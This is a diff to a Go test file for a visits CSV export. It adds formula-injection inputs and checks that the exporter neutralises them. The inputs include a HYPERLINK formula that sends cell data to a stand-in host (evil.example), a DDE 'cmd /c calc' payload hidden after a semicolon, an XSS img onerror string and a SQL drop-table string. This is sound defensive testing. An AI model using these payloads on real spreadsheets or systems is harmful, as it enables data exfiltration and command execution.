@@ -34,6 +34,15 @@ func exported(w *world, body string) []string {
 var nasty = []string{
 	`=HYPERLINK("http://evil.example/?"&A1)`, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a,b", `a"b`, "two\nlines", `<img src=x onerror=alert(1)>`,
 	"'; drop table visits", "👩‍🚀", strings.Repeat("x", throng.MaxVisitUserBytes), "' already", `\.`,
+	`room:x;=cmd|'/c calc'!A1;y`, "a\t+1", "two\n=lines", "a;-1;@b", `a;"=1"`, "a; =1", "a-b@c=d+e;f", "+1;=2",
+}
+
+// harmless are those of them that a table has otherwise than they are.
+var harmless = map[string]string{
+	`=HYPERLINK("http://evil.example/?"&A1)`: `'=HYPERLINK("http://evil.example/?"&A1)`,
+	"+1":                                     "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+	`room:x;=cmd|'/c calc'!A1;y`: `room:x;'=cmd|'/c calc'!A1;y`, "a\t+1": "a\t'+1", "two\n=lines": "two\n'=lines",
+	"a;-1;@b": "a;'-1;'@b", `a;"=1"`: `a;"'=1"`, "a; =1": "a; '=1", "+1;=2": "'+1;'=2",
 }
 
 func nastyBooks(t *testing.T) *books {
@@ -63,21 +72,37 @@ func TestExportCSV(t *testing.T) {
 	}
 	for i, row := range rows[1:] { // the newest first
 		user := nasty[len(nasty)-1-i]
-		want := user
-		if strings.ContainsRune("=+-@\t\r", rune(user[0])) {
-			want = "'" + user
+		want, changed := harmless[user]
+		if !changed {
+			want = user
 		}
 		if row[0] != want || row[6] != "60000" || row[7] != "left" {
 			t.Errorf("%q, want %q", row, want)
 		}
-		for _, cell := range row[:4] {
-			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
-				t.Errorf("a spreadsheet would run %q", cell)
-			}
-		}
 		began, err := time.Parse(time.RFC3339, row[4])
 		if err != nil || began.UnixMilli() != b.day+int64(len(nasty)-1-i)*minute {
 			t.Errorf("%s: %v", row[4], err)
+		}
+	}
+}
+
+// Spreadsheets take what stands between two cell ends for a cell, whichever byte of
+// these their country has, and care for quotes only where they begin one.
+func TestExportHasNoFormulas(t *testing.T) {
+	w := over(t, api.Options{Records: nastyBooks(t)})
+	status, answer := w.request(http.MethodGet, "/api/visits_export", "")
+	if status != 200 {
+		t.Fatalf("%d %s", status, answer)
+	}
+	for _, separator := range ",;\t" {
+		cells := strings.FieldsFunc(string(answer), func(r rune) bool { return r == separator || r == '\n' || r == '\r' })
+		if len(cells) < len(nasty) {
+			t.Fatalf("%d cells", len(cells))
+		}
+		for _, cell := range cells {
+			if bare := strings.TrimLeft(cell, ` "`); bare != "" && strings.IndexByte("=+-@", bare[0]) >= 0 {
+				t.Errorf("a spreadsheet whose cells end at %q would run %q", separator, cell)
+			}
 		}
 	}
 }
